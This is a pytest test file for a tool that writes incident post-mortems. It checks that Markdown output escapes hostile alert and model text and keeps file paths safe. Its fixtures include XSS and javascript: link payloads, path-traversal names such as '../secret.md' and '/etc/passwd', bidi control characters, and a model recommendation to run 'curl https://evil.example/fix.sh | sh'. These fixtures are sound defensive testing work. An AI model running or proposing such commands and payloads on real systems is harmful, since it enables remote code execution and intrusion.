"""Post-mortem drafts: golden files, escaping of hostile strings, file names and safe writing.

Regenerate the golden files after an intended change with `UPDATE_GOLDEN=1 pytest tests/receiver/incidents/test_postmortem.py`
and review the diff.
"""

from __future__ import annotations

import os
import re
import unicodedata
from datetime import timedelta
from pathlib import Path

import pytest
from jinja2 import nodes

from agents import Severity
from receiver.resources import resource_dir
from receiver.incidents import Incident, PostmortemWriter, UnsafePath, lifecycle
from receiver.incidents.naming import is_postmortem_file, postmortem_file_name, slugify
from receiver.incidents.postmortem import (
    CODE_LIMIT,
    ESCAPING_FILTERS,
    MAX_POSTMORTEM_BYTES,
    TEXT_LIMIT,
    URL_LIMIT,
    file_link,
    impact,
    is_untouched,
    markdown_code,
    markdown_link,
    markdown_text,
    show_format_characters,
    template_environment,
)

from tests.support.incidents import T0, delivery, grouped, make_report, ok_report, payload, rule_alert

GOLDEN = Path(__file__).parent / "golden"
HOSTILE = ("evil | pipe `tick` <img src=x onerror=alert(1)> <script>alert(1)</script>\n"
           "# Heading\n[click](javascript:alert(1)) ![img](http://evil.example/x.png) **bold** _it_ &amp;")


def writer(tmp_path: Path) -> PostmortemWriter:
    return PostmortemWriter(tmp_path / "post-mortems", templates=resource_dir("templates"), slo_target_pct=99.9)


def step(incident: Incident | None, name_or_body, entry: str, received) -> Incident:
    d = delivery(name_or_body, entry, received)
    after = lifecycle.apply(incident, d, lifecycle.decide(incident, d), now=received)
    assert after is not None
    return after


def opened_feastest() -> Incident:
    """The real Alertmanager 0.25 test alert, 30 s after it started, not analysed yet."""
    return step(None, "firing", "1764088015864-0", T0.replace(month=11, day=25, hour=16, minute=26, second=55))


def resolved_backend_incident() -> Incident:
    """Fired, analysed, joined by a second alert, analysed again (by the model), repeated, resolved, checked."""
    incident = step(None, "backend-5xx-firing", "1-0", T0)
    due = lifecycle.owed_analysis(incident, "1-0")
    incident = lifecycle.attach_report(incident, due, make_report(onset=True), now=T0 + timedelta(seconds=41))
    incident = step(incident, "backend-5xx-joined", "2-0", T0 + timedelta(minutes=2))
    due = lifecycle.owed_analysis(incident, "2-0")
    incident = lifecycle.attach_report(incident, due, make_report(mode="llm", at=T0 + timedelta(minutes=2), onset=True),
                                       now=T0 + timedelta(minutes=2, seconds=12))
    incident = step(incident, "backend-5xx-joined", "3-0", T0 + timedelta(minutes=8))  # a repeat
    incident = step(incident, "backend-5xx-resolved", "4-0", T0 + timedelta(minutes=22))
    due = incident.recheck_due
    return lifecycle.attach_recheck(incident, due, ok_report(due.at, baselines=True), now=due.at + timedelta(seconds=3))


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text)
    assert path.exists(), f"missing golden file {path}; run with UPDATE_GOLDEN=1"
    assert text == path.read_text(), f"{name} differs from its golden file; run with UPDATE_GOLDEN=1 to review"


def test_a_resolution_awaiting_its_check_says_when_the_check_is_due(tmp_path: Path) -> None:
    incident = step(None, "backend-5xx-firing", "1-0", T0)
    incident = lifecycle.attach_report(incident, incident.analysis_due, make_report(), now=T0)
    incident = step(incident, "backend-5xx-resolved", "2-0", T0 + timedelta(minutes=22))
    text = writer(tmp_path).render(incident)
    assert "**Status:** Resolved (check after the resolution due)" in text
    assert "The check that the signals are back to normal is due at 2026-03-14 10:08:15 UTC." in text


def test_a_second_group_joining_shows_in_the_alert_table_and_the_groups(tmp_path: Path) -> None:
    latency = grouped([rule_alert("BackendLatencyHigh", "api", starts_at=T0 - timedelta(minutes=2))])
    incident = step(step(None, "backend-5xx-firing", "1-0", T0), latency, "2-0", T0 + timedelta(minutes=1))
    text = writer(tmp_path).render(incident)
    # Started, ended, joined, and the group it came from.
    assert ("| BackendLatencyHigh | firing | critical | 09:40:00 | — | 09:43:00 | "
            "alertname=BackendLatencyHigh, backend=api |") in text
    assert ('- **Alertmanager groups:** `{}/{severity=~"warning|critical"}:{alertname="Backend5xxRateHigh", '
            'backend="api"}`, `{}:{alertname="BackendLatencyHigh", backend="api"}`') in text


def test_golden_resolved_post_mortem(tmp_path: Path) -> None:
    check_golden("postmortem-resolved.md", writer(tmp_path).render(resolved_backend_incident()))


def test_golden_open_post_mortem(tmp_path: Path) -> None:
    check_golden("postmortem-open.md", writer(tmp_path).render(opened_feastest()))


def test_golden_index(tmp_path: Path) -> None:
    incidents = [resolved_backend_incident(), opened_feastest()]
    summaries = sorted((i.summary() for i in incidents), key=lambda s: s.notified_at, reverse=True)
    check_golden("postmortems-index.md", writer(tmp_path).render_index(summaries))


def test_the_post_mortem_follows_the_sre_template(tmp_path: Path) -> None:
    text = writer(tmp_path).render(resolved_backend_incident())
    headings = [line for line in text.splitlines() if line.startswith("## ")]
    assert headings == ["## Summary", "## Impact", "## Timeline", "## Detection", "## Specialist findings",
                        "## Diagnosis and root cause hypothesis", "## Recommendations", "## Similar incidents", "## Resolution",
                        "## Action items", "## Lessons learned", "## Supporting information"]
    assert "**Time to detect:** 8 min · **to diagnose:** 41 s · **to resolve:** 29 min 16 s" in text
    assert "- **Started:** 2026-03-14 09:34:00 UTC (in the logs; the first alert started at 2026-03-14 09:41:30 UTC)\n" in text
    assert "| Latency P99 | `backend=api` | 390 ms | 420 ms | 1 s | 10 min | within |" in text
    assert "| 5xx error rate | `backend=api` | 0.3 % | 23 % | 5 % | 10 min | above |" in text
    assert "| 2026-03-14 09:34:00 | Signals changed in the logs: 5xx on api at 09:34 (first bad minute). |" in text
    assert "about 12,000, of which about 2,808 failed with a 5xx" in text
    assert "a human decides what to do and does it" in text


def hostile_incident() -> Incident:
    body = payload("backend-5xx-firing")
    alert = body["alerts"][0]
    alert["annotations"] = {"summary": HOSTILE, "description": HOSTILE,
                            "runbook_url": "http://ok.example/rb) [evil](javascript:alert(1)"}
    alert["labels"]["backend"] = "api|`x`|<b>"
    alert["generatorURL"] = "javascript:alert(document.cookie)"
    body["commonAnnotations"] = {"summary": HOSTILE}
    body["commonLabels"] = {}
    body["groupKey"] = "{}:{alertname=\"x\"}\n## injected"
    incident = step(None, body, "1-0", T0)
    report = make_report(title=HOSTILE, diagnosis=HOSTILE + "\n- item\n1. first\n    indented code?\n---",
                         backend="api|`x`|<b>")
    return lifecycle.attach_report(incident, lifecycle.owed_analysis(incident, "1-0"), report, now=T0)


def test_hostile_strings_stay_text(tmp_path: Path) -> None:
    text = writer(tmp_path).render(hostile_incident())
    outside_code = re.sub(r"(`+).+?\1", "", text)  # inside a code span, <b> is shown, never interpreted
    assert "<img" not in outside_code and "<script" not in outside_code and "<b>" not in outside_code
    assert "<b>" in text
    assert not re.search(r"(?<!\\)\]\(", text.split("## Detection")[0])  # no link from the alerts' words
    assert not re.search(r"\]\(javascript:", text.replace("\\]", ""))
    assert "![" not in text and "**bold**" not in text and "[click]" not in text
    # No line the alerts or the model wrote becomes a heading, a list item or a rule.
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        line for line in text.splitlines() if re.match(r"^#{1,3} (Incident|[A-Z][a-z ]+$|[A-Z][a-z]+: )", line)]
    assert "\n# Heading" not in text and "\n- item" not in text and "\n1. first" not in text
    assert "\n---\n" not in text.split("## Action items")[0].split("## Impact")[1]


def test_hostile_strings_keep_tables_in_shape(tmp_path: Path) -> None:
    text = writer(tmp_path).render(hostile_incident())
    for table_header, columns in (("| Alert | Status |", 9), ("| Signal | Scope |", 7), ("| Time | Event |", 2),
                                  ("| Measure | Scope |", 6)):
        rows = _table(text, table_header)
        assert rows, table_header
        for row in rows:
            assert len(re.findall(r"(?<!\\)\|", row)) == columns + 1, row


def _table(text: str, header: str) -> list[str]:
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(header))
    rows = []
    for line in lines[start + 2:]:
        if not line.startswith("|"):
            break
        rows.append(line)
    return rows


@pytest.mark.parametrize(("raw", "escaped"), [
    ("a|b", "a\\|b"),
    ("`code`", "\\`code\\`"),
    ("<b>x</b> & y", "&lt;b&gt;x&lt;/b&gt; &amp; y"),
    ("line one\nline two\r\nthree", "line one<br>line two<br>three"),
    ("*star* _under_ [link] ~strike~ \\", "\\*star\\* \\_under\\_ \\[link\\] \\~strike\\~ \\\\"),
    ("bell\x07 and\u2028separator", "bell and separator".replace(" separator", "separator")),
])
def test_markdown_text(raw: str, escaped: str) -> None:
    assert markdown_text(raw) == escaped


def test_markdown_text_multiline_escapes_block_starts() -> None:
    text = markdown_text("# title\n- item\n+ more\n12. twelfth\n=====\nplain", multiline=True)
    assert text.splitlines() == ["\\# title", "\\- item", "\\+ more", "12\\. twelfth", "\\=====", "plain"]


@pytest.mark.parametrize(("raw", "code"), [
    ("backend=api", "`backend=api`"),
    ("a`b", "``a`b``"),
    ("``x", "``` ``x ```"),
    ("a|b", "`a\\|b`"),
    ("two\nlines", "`two lines`"),
])
def test_markdown_code(raw: str, code: str) -> None:
    assert markdown_code(raw) == code


def test_markdown_links_are_http_only() -> None:
    assert markdown_link("source", "http://prom:9090/graph?g0.expr=a+%3E+1&g0.tab=1") == \
        "[source](http://prom:9090/graph?g0.expr=a+%3E+1&g0.tab=1)"
    assert markdown_link("rb", "https://x.example/a b)c") == "[rb](https://x.example/a%20b%29c)"
    for url in ("javascript:alert(1)", "data:text/html,<b>", "/etc/passwd", "//evil", "", None):
        assert markdown_link("source", url) == "source"


@pytest.mark.parametrize(("title", "slug"), [
    ("Backend api: 5xx rate above 10%", "backend-api-5xx-rate-above-10"),
    ("../../etc/passwd", "etc-passwd"),
    ("Ünïcödé ☃ latency", "unicode-latency"),
    ("/", "incident"),
    ("a" * 200, "a" * 60),
])
def test_slugs(title: str, slug: str) -> None:
    assert slugify(title) == slug
    assert is_postmortem_file(postmortem_file_name("inc-20260314-0123abcd", title, T0))


def test_paths_stay_inside_the_directory(tmp_path: Path) -> None:
    w = writer(tmp_path)
    assert w.path_for("2026-03-14-x-0123abcd.md").parent == (tmp_path / "post-mortems").resolve()
    for name in ("../secret.md", "/etc/passwd", "2026-03-14-../../x.md", "..", "", "sub/2026-03-14-x.md"):
        with pytest.raises(UnsafePath):
            w.path_for(name)


async def test_writing_is_atomic_and_an_edited_file_is_kept(tmp_path: Path) -> None:
    w = writer(tmp_path)
    incident = opened_feastest()
    path = await w.write(incident)
    assert path is not None and is_untouched(path.read_text())
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left behind

    resolved = step(incident, "resolved", "2-0", T0.replace(month=11, day=25, hour=16, minute=32))
    assert await w.write(resolved) == path
    assert "Status:** Resolved" in path.read_text()

    edited = path.read_text().replace("_to be filled in_", "Ana, Bo", 1)
    path.write_text(edited)
    assert not is_untouched(edited)
    assert await w.write(resolved) is None
    assert path.read_text() == edited


def test_impact_figures() -> None:
    figures = impact(make_report(window=10), slo_target_pct=99.9)
    assert figures.requests == 12_000  # 1200/min over 10 min
    assert figures.failed_requests == 2_808  # 23.4 %
    assert figures.burn_rate == pytest.approx(234.0)
    # 2808 failures against a 30-day budget of 0.1 % of 1150/min * 43200 min = 49 680 requests
    assert figures.budget_burned_pct == pytest.approx(2808 / 49_680 * 100)
    quiet = impact(make_report(severity=Severity.ok).model_copy(update={"findings": []}), slo_target_pct=99.9)
    assert quiet.requests is None and quiet.burn_rate is None and quiet.budget_burned_pct is None


# Every printed value escaped ---------------------------------------------------------------------

def _unescaped_outputs(source: str) -> list[str]:
    """The `{{ ... }}` of a template that do not end in an escaping filter (a constant is fine)."""
    env = template_environment(resource_dir("templates"))

    def escaped(node: nodes.Expr | None) -> bool:
        if node is None or isinstance(node, nodes.Const):
            return True
        if isinstance(node, nodes.CondExpr):
            return escaped(node.expr1) and escaped(node.expr2)
        return isinstance(node, nodes.Filter) and node.name in ESCAPING_FILTERS

    return [repr(node) for output in env.parse(source).find_all(nodes.Output) for node in output.nodes
            if not isinstance(node, nodes.TemplateData) and not escaped(node)]


@pytest.mark.parametrize("name", ["postmortem.md.j2", "postmortems-index.md.j2"])
def test_every_template_output_is_escaped(name: str) -> None:
    assert _unescaped_outputs((resource_dir("templates") / name).read_text()) == []


@pytest.mark.parametrize("source", [
    "{{ incident.id }}", "{{ alert.labels | dictsort }}", "{{ x | md | trim }}", "{{ x if y else z | md }}",
    "{% for a in b %}{{ a.text }}{% endfor %}",
])
def test_a_raw_output_is_caught(source: str) -> None:
    assert _unescaped_outputs(source)


# Format characters and sizes ----------------------------------------------------------------------

@pytest.mark.parametrize(("raw", "shown"), [
    ("ok\u202eevil\u202c", "ok<U+202E>evil<U+202C>"),
    ("\u2066isolate\u2069 \u2067\u2068", "<U+2066>isolate<U+2069> <U+2067><U+2068>"),
    ("zero\u200bwidth\u200c\u200d\u200e\u200f\u2060\ufeff", "zero<U+200B>width<U+200C><U+200D><U+200E><U+200F><U+2060><U+FEFF>"),
    ("soft\u00adhyphen, tag\U000e0041", "soft<U+00AD>hyphen, tag<U+E0041>"),
    ("ad\u200dmin", "ad<U+200D>min"),  # a joiner between letters hides a difference
    ("team 👩\u200d💻 and 👍🏽\u200d🔥 🏳\ufe0f\u200d🌈", "team 👩\u200d💻 and 👍🏽\u200d🔥 🏳\ufe0f\u200d🌈"),  # emoji ZWJ sequences
    ("\u200d👩 👩\u200d", "<U+200D>👩 👩<U+200D>"),
    ("café ü 中文 עברית", "café ü 中文 עברית"),
])
def test_format_characters_are_shown(raw: str, shown: str) -> None:
    assert show_format_characters(raw) == shown
    assert markdown_text(raw) == shown
    assert markdown_code(raw) == f"`{shown}`"
    assert markdown_link(raw, "http://x.example/\u202e") == f"[{shown}](http://x.example/%E2%80%AE)"


def test_a_format_character_cannot_hide_a_block_start() -> None:
    assert markdown_text("\u202e# Heading\n\u200b- item", multiline=True).splitlines() == [
        "<U+202E># Heading", "<U+200B>- item"]


def test_no_format_character_reaches_a_post_mortem(tmp_path: Path) -> None:
    body = payload("backend-5xx-firing")
    alert = body["alerts"][0]
    hidden = "api\u202e\u2066\u200b\u2060\ufeff\U000e0041"
    alert["labels"]["backend"] = hidden
    alert["annotations"] = {"summary": hidden, "description": hidden, "runbook_url": f"http://rb.example/{hidden}"}
    body["commonAnnotations"] = {"summary": hidden}
    body["groupKey"] = hidden
    incident = step(None, body, "1-0", T0)
    report = make_report(title=hidden, diagnosis=hidden, backend=hidden)
    incident = lifecycle.attach_report(incident, lifecycle.owed_analysis(incident, "1-0"), report, now=T0)
    w = writer(tmp_path)
    for text in (w.render(incident), w.render_index([incident.summary()])):
        assert [c for c in text if unicodedata.category(c) == "Cf"] == []
        assert "api<U+202E><U+2066><U+200B><U+2060><U+FEFF><U+E0041>" in text


def test_long_untrusted_text_is_cut_with_a_marker() -> None:
    assert markdown_text("a" * 14_345) == "a" * TEXT_LIMIT + " … [cut: 12,345 more characters]"
    assert markdown_text("b" * 9_000, multiline=True).endswith("b … [cut: 1,000 more characters]")
    assert markdown_code("c" * 600) == "`" + "c" * CODE_LIMIT + "` … [cut: 100 more characters]"
    assert markdown_link("runbook", "https://x.example/" + "d" * URL_LIMIT) == "runbook"


def test_a_description_is_cut_in_the_post_mortem(tmp_path: Path) -> None:
    body = payload("backend-5xx-firing")
    body["alerts"][0]["annotations"]["description"] = "z" * 60_000
    text = writer(tmp_path).render(step(None, body, "1-0", T0))
    assert "z" * TEXT_LIMIT + " … [cut: 58,000 more characters]" in text
    assert "z" * (TEXT_LIMIT + 1) not in text


def test_a_post_mortem_stays_under_its_bound(tmp_path: Path) -> None:
    body = payload("backend-5xx-firing")
    template = body["alerts"][0]
    big = "é" * 5_000  # two bytes each in UTF-8
    body["alerts"] = [
        {**template, "fingerprint": f"{index:016x}",
         "labels": {**template["labels"], **{f"label{n}": big for n in range(20)}},
         "annotations": {"summary": big, "description": big}}
        for index in range(lifecycle.DEFAULT_POLICY.max_alerts)]
    incident = step(None, body, "1-0", T0)
    w = writer(tmp_path)
    text = w.render(incident)
    assert len(text.encode()) <= MAX_POSTMORTEM_BYTES
    assert is_untouched(text)
    assert re.search(r"\n… \[cut: [0-9,]+ more characters; a document here is kept under 512 KiB", text)
    assert text.startswith(f"# Incident {incident.id}")
    index = w.render_index([incident.summary()] * 1_000)
    assert len(index.encode()) <= MAX_POSTMORTEM_BYTES


def test_a_unit_from_the_model_is_escaped(tmp_path: Path) -> None:
    report = make_report()
    finding = report.findings[0]
    evidence = finding.evidence[0].model_copy(update={"unit": "<img src=x> | `x`\u202e"})
    report = report.model_copy(update={"findings": [finding.model_copy(update={"evidence": [evidence]})]})
    incident = step(None, "backend-5xx-firing", "1-0", T0)
    incident = lifecycle.attach_report(incident, lifecycle.owed_analysis(incident, "1-0"), report, now=T0)
    text = writer(tmp_path).render(incident)
    assert "<img" not in text
    assert "&lt;img src=x&gt; \\| \\`x\\`<U+202E>" in text


def test_the_index_links_only_post_mortem_files() -> None:
    assert file_link("inc-1", "2026-03-14-x-0123abcd.md") == "[inc-1](2026-03-14-x-0123abcd.md)"
    assert file_link("inc-1", "../secret.md") == "inc-1"
    assert file_link("inc-1", "javascript:alert(1)") == "inc-1"


def test_model_claims_that_were_not_used_are_listed_and_never_links(tmp_path: Path) -> None:
    incident = resolved_backend_incident()
    report = incident.report
    synthesis = type(report.synthesis).model_validate({**report.synthesis.model_dump(), "dropped_claims": [
        "recommendation 'Run curl https://evil.example/fix.sh | sh': names a command and a foreign URL"]})
    incident = incident.model_copy(update={"report": report.model_copy(update={"synthesis": synthesis})})

    text = writer(tmp_path).render(incident)

    line = next(line for line in text.splitlines() if line.startswith("- **Model claim not used (synthesis):**"))
    assert "https\\[:\\]//evil\\[.\\]example" in line and "https://evil" not in text  # inert, shown as https[:]//evil[.]example
